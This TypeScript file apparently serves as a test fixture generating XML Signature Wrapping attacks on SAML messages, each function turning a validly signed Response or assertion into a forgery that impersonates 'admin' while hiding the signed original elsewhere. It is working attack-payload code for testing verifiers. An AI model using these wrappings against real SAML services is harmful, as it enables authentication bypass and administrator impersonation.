/** Signature wrapping: the attacks of the literature, on text. Each takes an honestly signed message and returns a hostile one. */

const signaturePattern = /<ds:Signature .*?<\/ds:Signature>/s;
const assertionPattern = /<saml:Assertion .*<\/saml:Assertion>/s;

const get = (pattern: RegExp, xml: string): string => {
  const found = pattern.exec(xml)?.[0];
  if (found === undefined) throw new Error(`nothing matches ${pattern}`);
  return found;
};

const put = (xml: string, at: string | RegExp, text: string): string => xml.replace(at, () => text);
/** The element without its own (first) signature. */
const unsigned = (xml: string): string => put(xml, signaturePattern, '');
/** The attacker's version: another person, another ID. */
export const evil = (xml: string, id = '_evil'): string =>
  xml
    .replaceAll('alice', 'admin')
    .replaceAll('idp.example.edu/sso', 'evil.example/sso')
    .replace(/\sID="[^"]*"/, ` ID="${id}"`);

const intoSignature = (xml: string, child: string): string => xml.replace('</ds:Signature>', () => `${child}</ds:Signature>`);
const intoObject = (xml: string, child: string): string => intoSignature(xml, `<ds:Object>${child}</ds:Object>`);
const beforeEnd = (xml: string, text: string): string => xml.replace(/(<\/[\w:]+>)$/, (_, end: string) => text + end);
const afterOpening = (xml: string, text: string): string => xml.replace(/^<[^>]*>/, open => open + text);

/** On the root of a message: Response, LogoutRequest, LogoutResponse, EntityDescriptor. */
export const rootWrappings: Record<string, (xml: string) => string> = {
  'XSW1: the original inside the Signature of the evil one': xml => intoSignature(evil(xml), unsigned(xml)),
  'XSW2: the original before the Signature of the evil one': xml =>
    put(evil(xml), signaturePattern, unsigned(xml) + get(signaturePattern, xml)),
  'XSW3: an evil one inserted first, the original after it': xml => afterOpening(xml, unsigned(evil(xml))),
  'XSW4: the evil one is the parent of the original': xml => beforeEnd(unsigned(evil(xml)), xml),
  'XSW5: the signature stays in the evil one, the original without it at the end': xml => beforeEnd(evil(xml), unsigned(xml)),
  'XSW6: the original inside the Signature, with a child of that ID': xml => intoSignature(evil(xml), xml),
  'XSW7: Extensions hold an evil copy with the same ID': xml =>
    xml.replace(
      '</ds:Signature>',
      () => `</ds:Signature><samlp:Extensions>${unsigned(xml).replaceAll('alice', 'admin')}</samlp:Extensions>`,
    ),
  'XSW8: the original inside ds:Object of the evil Signature': xml => intoObject(evil(xml), unsigned(xml)),
  'the evil one keeps the ID, the original is in ds:Object': xml =>
    intoObject(evil(xml, /\sID="([^"]*)"/.exec(xml)?.[1]), unsigned(xml)),
  'the original in Extensions of the evil one': xml =>
    evil(xml).replace('</ds:Signature>', () => `</ds:Signature><samlp:Extensions>${xml}</samlp:Extensions>`),
  'evil children before the signed ones': xml => xml.replace('</ds:Signature>', () => `</ds:Signature>${unsigned(evil(xml))}`),
};

/** Replaces the assertion of a Response. */
const withAssertion = (response: string, change: (assertion: string) => string): string =>
  put(response, assertionPattern, change(get(assertionPattern, response)));

/** On the assertion of a Response. */
export const assertionWrappings: Record<string, (xml: string) => string> = {
  'XSW3: an evil assertion before the original': xml => withAssertion(xml, original => unsigned(evil(original)) + original),
  'XSW4: the evil assertion is the parent of the original': xml =>
    withAssertion(xml, original => beforeEnd(unsigned(evil(original)), original)),
  'XSW5: the signature stays in the evil one, the original at the end': xml =>
    withAssertion(xml, original => evil(original) + unsigned(original)),
  'XSW6: the original inside the Signature of the evil one': xml =>
    withAssertion(xml, original => intoSignature(evil(original), unsigned(original))),
  'XSW7: Extensions hold an evil copy with the same ID': xml =>
    withAssertion(xml, original => original).replace(
      /<samlp:Status>/,
      () =>
        `<samlp:Extensions>${unsigned(get(assertionPattern, xml)).replaceAll('alice', 'admin')}</samlp:Extensions><samlp:Status>`,
    ),
  'XSW8: the original inside ds:Object of the evil Signature': xml =>
    withAssertion(xml, original => intoObject(evil(original), unsigned(original))),
  'XSW10: the assertion’s signature cloned to the Response with the assertion in its Object, the live ID altered': xml => {
    const original = get(assertionPattern, xml);
    const signature = get(signaturePattern, original).replace(
      '</ds:Signature>',
      () => `<ds:Object>${unsigned(original)}</ds:Object></ds:Signature>`,
    );
    return withAssertion(xml, () => unsigned(evil(original))).replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
  },
  'an evil assertion after the original': xml => withAssertion(xml, original => original + unsigned(evil(original))),
  'two assertions of one ID': xml => withAssertion(xml, original => unsigned(evil(original, '_assertion1')) + original),
  'the original in Advice of the evil one': xml =>
    withAssertion(xml, original =>
      unsigned(evil(original)).replace(
        '<saml:AuthnStatement',
        () => `<saml:Advice>${original}</saml:Advice><saml:AuthnStatement`,
      ),
    ),
  'the original in an AttributeValue of the evil one': xml =>
    withAssertion(xml, original => unsigned(evil(original)).replace('admin@example.edu', () => original)),
  'the original in StatusDetail': xml =>
    withAssertion(xml, original => unsigned(evil(original))).replace(
      '</samlp:Status>',
      () => `<samlp:StatusDetail>${get(assertionPattern, xml)}</samlp:StatusDetail></samlp:Status>`,
    ),
  'the original in Extensions': xml =>
    withAssertion(xml, original => unsigned(evil(original))).replace(
      '<samlp:Status>',
      () => `<samlp:Extensions>${get(assertionPattern, xml)}</samlp:Extensions><samlp:Status>`,
    ),
};

/** On the bare assertion: what an attacker does before encrypting it to us (encryption needs only our public key). */
export const bareAssertionWrappings: Record<string, (xml: string) => string> = Object.fromEntries(
  Object.entries({
    'XSW4: the evil assertion is the parent of the original': (original: string) => beforeEnd(unsigned(evil(original)), original),
    'XSW6: the original inside the Signature of the evil one': (original: string) =>
      intoSignature(evil(original), unsigned(original)),
    'XSW8: the original inside ds:Object of the evil Signature': (original: string) =>
      intoObject(evil(original), unsigned(original)),
    'XSW2: the original before the Signature of the evil one': (original: string) =>
      put(evil(original), signaturePattern, unsigned(original) + get(signaturePattern, original)),
    'the original in Advice of the evil one': (original: string) =>
      unsigned(evil(original)).replace(
        '<saml:AuthnStatement',
        () => `<saml:Advice>${original}</saml:Advice><saml:AuthnStatement`,
      ),
    'the original in an AttributeValue of the evil one': (original: string) =>
      unsigned(evil(original)).replace('admin@example.edu', () => original),
    'two assertions in one ciphertext': (original: string) => `${original}${unsigned(evil(original))}`,
  }),
);
